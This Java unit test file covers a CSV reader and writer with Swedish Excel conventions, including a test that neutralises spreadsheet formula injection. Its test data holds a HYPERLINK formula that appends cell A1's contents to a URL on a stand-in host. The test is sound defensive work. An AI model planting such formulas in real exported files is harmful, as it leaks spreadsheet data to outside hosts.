package se.kvalitet.followup.format;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringReader;
import java.io.StringWriter;
import java.math.BigDecimal;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** RFC 4180 reading and writing, with the Swedish Excel variant (semicolon, decimal comma, BOM). */
class CsvTest {

    static List<List<String>> read(String text, char delimiter) {
        Csv.Parser p = new Csv.Parser(new StringReader(text), delimiter);
        List<List<String>> out = new ArrayList<>();
        List<String> r;
        while ((r = p.next()) != null) {
            out.add(r);
        }
        return out;
    }

    @Test
    void quotedFieldsHoldDelimitersQuotesAndLineBreaks() {
        String text = "\uFEFFa;b;c\r\n1;\"x;y\";\"he said \"\"hi\"\"\"\r\n2;\"two\nlines\";\r\n\r\n3;;last\n";
        assertThat(read(text, ';'))
                .containsExactly(
                        List.of("a", "b", "c"),
                        List.of("1", "x;y", "he said \"hi\""),
                        List.of("2", "two\nlines", ""),
                        List.of("3", "", "last"));
        Csv.Parser p = new Csv.Parser(new StringReader("h\nv1\n\"multi\nline\"\nv3"), ',');
        p.next();
        p.next();
        p.next();
        assertThat(p.recordLine()).isEqualTo(3);
        p.next();
        assertThat(p.recordLine()).isEqualTo(5);
    }

    @Test
    void malformedFilesAreRefusedWithTheirLine() {
        assertThatThrownBy(() -> read("a,b\n1,\"open", ','))
                .isInstanceOf(Csv.MalformedException.class)
                .hasMessageContaining("line 2");
        assertThatThrownBy(() -> read("a,b\n1,x\"y\n", ',')).isInstanceOf(Csv.MalformedException.class);
        assertThatThrownBy(() -> read("a,b\n1,\"x\"y\n", ',')).isInstanceOf(Csv.MalformedException.class);
    }

    @Test
    void thePrinterQuotesOnlyWhatNeedsItAndEndsRecordsWithCrlf() throws Exception {
        StringWriter w = new StringWriter();
        Csv.Printer p = new Csv.Printer(w, ';');
        p.field("plain").field("semi;colon").field("quote\"d").field(null).field("line\nbreak");
        p.endRecord();
        assertThat(w.toString()).isEqualTo("plain;\"semi;colon\";\"quote\"\"d\";;\"line\nbreak\"\r\n");
        assertThat(read(w.toString(), ';'))
                .containsExactly(List.of("plain", "semi;colon", "quote\"d", "", "line\nbreak"));
    }

    @Test
    void numbersTravelWithTheChosenDecimalSeparator() {
        assertThat(TableFormat.number(new BigDecimal("84.500000"), true)).isEqualTo("84,5");
        assertThat(TableFormat.number(new BigDecimal("100.000"), false)).isEqualTo("100");
        assertThat(TableFormat.parseNumber("84,5", true)).isEqualByComparingTo("84.5");
        assertThat(TableFormat.parseNumber("1 234,5", true)).isEqualByComparingTo("1234.5");
        assertThatThrownBy(() -> TableFormat.parseNumber("84,5", false))
                .isInstanceOf(NumberFormatException.class)
                .hasMessageContaining("decimal=comma");
    }

    @Test
    void aTextCellThatASpreadsheetWouldRunAsAFormulaIsWrittenAsTextNumbersAndJsonAsThey() throws Exception {
        List<RowWriter.Column> columns = List.of(
                new RowWriter.Column("name", RowWriter.Kind.TEXT),
                new RowWriter.Column("value", RowWriter.Kind.NUMBER));
        java.io.ByteArrayOutputStream csv = new java.io.ByteArrayOutputStream();
        try (RowWriter w = RowWriter.open(TableFormat.parse("csv", "semicolon", "comma", null), columns, csv)) {
            w.row(new String[] {"=HYPERLINK(\"http://x.example/?\"&A1;\"Öppna\")", "-1.5"});
            w.row(new String[] {"+46 8 123", "2"});
            w.row(new String[] {"-ej angivet", null});
            w.row(new String[] {"@SUM(A1)", "0"});
            w.row(new String[] {"\tTab", "1"});
            w.row(new String[] {"Hemtjänst Norr", "84.5"});
        }
        assertThat(read(csv.toString(java.nio.charset.StandardCharsets.UTF_8), ';'))
                .containsExactly(
                        List.of("name", "value"),
                        List.of("'=HYPERLINK(\"http://x.example/?\"&A1;\"Öppna\")", "-1,5"),
                        List.of("'+46 8 123", "2"),
                        List.of("'-ej angivet", ""),
                        List.of("'@SUM(A1)", "0"),
                        List.of("'\tTab", "1"),
                        List.of("Hemtjänst Norr", "84,5"));
        java.io.ByteArrayOutputStream json = new java.io.ByteArrayOutputStream();
        try (RowWriter w = RowWriter.open(TableFormat.parse("json", null, null, null), columns, json)) {
            w.row(new String[] {"=1+1", "-1.5"});
        }
        assertThat(json.toString(java.nio.charset.StandardCharsets.UTF_8))
                .isEqualTo("[{\"name\":\"=1+1\",\"value\":-1.5}]");
    }
}
